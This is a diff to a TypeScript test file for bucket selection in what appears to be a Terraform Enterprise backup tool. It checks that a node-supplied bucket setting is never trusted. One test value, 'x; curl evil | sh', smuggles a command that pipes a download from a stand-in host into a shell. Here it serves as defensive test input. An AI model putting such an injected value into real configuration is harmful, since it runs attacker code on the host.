@@ -84,15 +84,27 @@ it("takes the job that has come since where the answer names none", async () => 
   expect((await make()).jobId).toBe("2026-11-22T02:00:09Z");
 });
 
-it("looks in the application's own bucket where the stack names none, and says where nobody does", async () => {
-  const world = new World();
-  const { make } = bucket(world, [], { bucket: undefined });
-  await expect(make()).rejects.toMatchObject({ code: "STACK_CONFIG_INVALID" });
-  world.tfe.settings.set("i-1", { s3_bucket: "its-own" });
-  const { keys, make: again } = bucket(world, [], { bucket: undefined });
-  world.after(1_000, () => keys.push(keyOf(JOB, "10.0.1.1"), keyOf(JOB, "10.0.1.2")));
-  expect((await again()).bucket).toBe("its-own");
+describe("where the stack names no bucket", () => {
+  it.each([
+    [{}, /i-1 names none either\. Set tfe:bucket$/],
+    [{ s3_bucket: "its-own" }, /i-1 says that it is its-own\. .*: pulumi config set tfe:bucket its-own$/],
+    [{ s3_bucket: "x; curl evil | sh" }, /i-1 names none either\. Set tfe:bucket$/],
+  ])("reads none, since a node must not choose it: %j", async (settings, said) => {
+    const world = new World();
+    world.tfe.settings.set("i-1", settings);
+    const { make, told } = bucket(world, [], {
+      bucket: undefined,
+      objects: { list: () => fail("it was read"), download: () => fail("it was read") },
+    });
+    await expect(make()).rejects.toMatchObject({
+      code: "STACK_CONFIG_INVALID",
+      detail: expect.stringMatching(said) as string,
+    });
+    expect(told).toEqual([]);
+  });
 });
+
+const fail = (why: string): Promise<never> => Promise.reject(new Error(why));
 
 it("is made beside a run that has halted, by a node whose application runs", async () => {
   const world = new World();
